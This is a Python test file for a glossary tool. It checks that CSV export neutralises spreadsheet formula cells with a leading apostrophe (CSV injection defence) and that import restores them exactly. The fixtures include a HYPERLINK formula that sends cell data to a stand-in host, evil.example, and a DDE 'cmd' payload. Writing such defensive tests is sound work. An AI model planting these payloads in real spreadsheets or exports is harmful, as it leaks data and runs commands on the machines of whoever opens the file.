"""CSV export for spreadsheets: a cell a spreadsheet would run as a formula is written with an
apostrophe in front (OWASP, "CSV Injection"), and import takes exactly that apostrophe off."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from support import Cli

from assembler.glossary import csvio
from assembler.glossary.model import Concept, Glossary, Term
from assembler.glossary.store import dump_concepts, load_glossary

HEADER = (
    "concept id,subject,definition,concept note,concept sources,language,term,status,type,"
    "term note,term source,zh-Hant,zh-TW,zh-HK"
)
HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"UNODC")'

FORMULAS = Concept(
    id="formulas",
    subject=HYPERLINK,
    definition="-x",
    note="@SUM(1+1)",
    sources=("=cmd|' /C calc'!A0", "E/CN.15/2007/9"),
    terms=(
        Term("+1", "zh-Hans", "preferred", variants=(("zh-Hant", "=1+1"),)),
        Term("'=quoted", "en", "preferred", note="\tTAB", source="\rCR"),
        Term("'s-Hertogenbosch", "en", "admitted", note="'", source="''"),
    ),
)


def cells(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8").removeprefix(csvio.BOM)
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    folder = tmp_path / "glossary"
    folder.mkdir()
    (folder / "formulas.yaml").write_text(dump_concepts([FORMULAS]), encoding="utf-8")
    return folder


def test_export_puts_an_apostrophe_before_every_formula(
    folder: Path, tmp_path: Path, cli: Cli
) -> None:
    out = tmp_path / "terms.csv"
    code, _, _ = cli("--glossary", str(folder), "glossary", "export", "-o", str(out))
    assert code == 0
    concept = [
        "formulas",
        "'" + HYPERLINK,
        "'-x",
        "'@SUM(1+1)",
        "'=cmd|' /C calc'!A0\nE/CN.15/2007/9",
    ]
    # The context-rule columns come last; files without them (HEADER) still import.
    no_rules = ["", ""]
    assert cells(out.read_bytes()) == [
        [*HEADER.split(","), "not before", "not after"],
        [*concept, "zh-Hans", "'+1", "preferred", "full-form", "", "", "'=1+1", "", "", *no_rules],
        [
            *concept,
            "en",
            "''=quoted",
            "preferred",
            "full-form",
            "'\tTAB",
            "'\rCR",
            "",
            "",
            "",
            *no_rules,
        ],
        [
            *concept,
            "en",
            "'s-Hertogenbosch",
            "admitted",
            "full-form",
            "'",
            "'''",
            "",
            "",
            "",
            *no_rules,
        ],
    ]
    # The raw line, as a spreadsheet reads it: every dangerous cell starts with the apostrophe.
    raw = out.read_bytes().decode("utf-8").split("\r\n")
    assert raw[1] == (
        'formulas,"\'=HYPERLINK(""https://evil.example/?d=""&A1,""UNODC"")",\'-x,'
        "'@SUM(1+1),\"'=cmd|' /C calc'!A0\nE/CN.15/2007/9\",zh-Hans,'+1,preferred,full-form"
        ",,,'=1+1,,,,"
    )


def test_export_then_import_gives_the_same_concept(folder: Path, tmp_path: Path, cli: Cli) -> None:
    out = tmp_path / "formulas.csv"
    assert cli("--glossary", str(folder), "glossary", "export", "-o", str(out))[0] == 0
    empty = tmp_path / "empty"
    empty.mkdir()
    code, stdout, err = cli("--glossary", str(empty), "glossary", "import", str(out))
    assert (code, err) == (0, "")
    assert stdout.splitlines()[0].endswith("— 1 added, 0 replaced, 0 unchanged")
    (imported,) = load_glossary(empty).concepts
    assert imported == FORMULAS
    assert load_glossary(folder).concepts == (imported,)


def csv_file(*rows: str) -> bytes:
    return (csvio.BOM + "\r\n".join([HEADER, *rows]) + "\r\n").encode("utf-8")


def test_import_reads_formulas_as_text_with_or_without_the_apostrophe(
    tmp_path: Path, cli: Cli
) -> None:
    """A CSV made elsewhere may hold formulas as they are, or neutralised: both import as the
    text of the formula, never run, and export neutralises them again."""
    hyperlink = HYPERLINK.replace('"', '""')
    source = tmp_path / "formulas.csv"
    source.write_bytes(
        csv_file(
            f'raw,"{hyperlink}",+1,-x,@SUM(A1:A9),zh-Hans,天,preferred,,,,,,',
            f'raw,"{hyperlink}",+1,-x,@SUM(A1:A9),en,\'s-Hertogenbosch,preferred,,,,,,',
            f"\"quoted\",\"'{hyperlink}\",'+1,'-x,'@SUM(A1:A9),zh-Hans,地,preferred,,,,,,",
            "quoted,\"'" + hyperlink + "\",'+1,'-x,'@SUM(A1:A9),en,''=x,preferred,,,,,,",
        )
    )
    folder = tmp_path / "glossary"
    folder.mkdir()
    code, _, err = cli("--glossary", str(folder), "glossary", "import", str(source))
    assert (code, err) == (0, "")
    raw, quoted = load_glossary(folder).concepts
    for concept in (raw, quoted):
        assert (concept.subject, concept.definition, concept.note) == (HYPERLINK, "+1", "-x")
        assert concept.sources == ("@SUM(A1:A9)",)
    assert [t.text for t in raw.terms] == ["天", "'s-Hertogenbosch"]
    assert [t.text for t in quoted.terms] == ["地", "'=x"]

    out = tmp_path / "again.csv"
    assert cli("--glossary", str(folder), "glossary", "export", "-o", str(out))[0] == 0
    rows = cells(out.read_bytes())[1:]
    assert [row[1:5] for row in rows] == [["'" + HYPERLINK, "'+1", "'-x", "'@SUM(A1:A9)"]] * 4
    assert [row[6] for row in rows] == ["天", "'s-Hertogenbosch", "地", "''=x"]


def test_neutralise_and_restore_exact_cells() -> None:
    examples = {
        "=1+1": "'=1+1",
        "+1": "'+1",
        "-x": "'-x",
        "@SUM(A1)": "'@SUM(A1)",
        "\tx": "'\tx",
        "\rx": "'\rx",
        "'=1+1": "''=1+1",
        "''": "'''",
        "'s-Hertogenbosch": "'s-Hertogenbosch",
        "'": "'",
        "": "",
        "UNODC": "UNODC",
        "x=1": "x=1",
    }
    assert {value: csvio.neutralise(value) for value in examples} == examples
    assert {cell: csvio.restore(cell) for cell in examples.values()} == {
        cell: value for value, cell in examples.items()
    }


FORMULA_START = st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "''", "'=", "'@", "'\t"])
ANY_TEXT = st.text(
    st.characters(exclude_categories=("Cs", "Cc"), include_characters="\t\r\n'=+-@"),
    max_size=12,
)
STARTS_LIKE_A_FORMULA = st.builds(str.__add__, FORMULA_START, ANY_TEXT)


@given(STARTS_LIKE_A_FORMULA)
def test_a_neutralised_cell_runs_no_formula_and_restores_exactly(value: str) -> None:
    cell = csvio.neutralise(value)
    assert cell[:1] not in csvio.FORMULA_STARTS
    assert csvio.restore(cell) == value


@given(st.one_of(STARTS_LIKE_A_FORMULA, ANY_TEXT))
def test_restore_undoes_neutralise_for_any_text(value: str) -> None:
    assert csvio.restore(csvio.neutralise(value)) == value
    assert csvio.neutralise(value)[:1] not in csvio.FORMULA_STARTS


ONE_LINE = STARTS_LIKE_A_FORMULA.filter(lambda s: "\n" not in s and "\r" not in s and s != "")


@given(
    texts=st.lists(STARTS_LIKE_A_FORMULA, min_size=7, max_size=7),
    source=ONE_LINE,
)
def test_every_field_survives_the_csv_round_trip(texts: list[str], source: str) -> None:
    subject, definition, note, term, term_note, term_source, form = texts
    concept = Concept(
        id="c",
        subject=subject,
        definition=definition,
        note=note,
        sources=(source,),
        terms=(
            # read_csv refuses a row whose term is blank: give it a letter after the start.
            Term(
                term + "x",
                "zh-Hans",
                "preferred",
                note=term_note,
                source=term_source,
                variants=(("zh-Hant", form),),
            ),
        ),
    )
    data = csvio.write_csv(Glossary((concept,)))
    assert all(cell[:1] not in csvio.FORMULA_STARTS for row in cells(data) for cell in row)
    assert csvio.read_csv(data, Path("round-trip.csv")).concepts == (concept,)
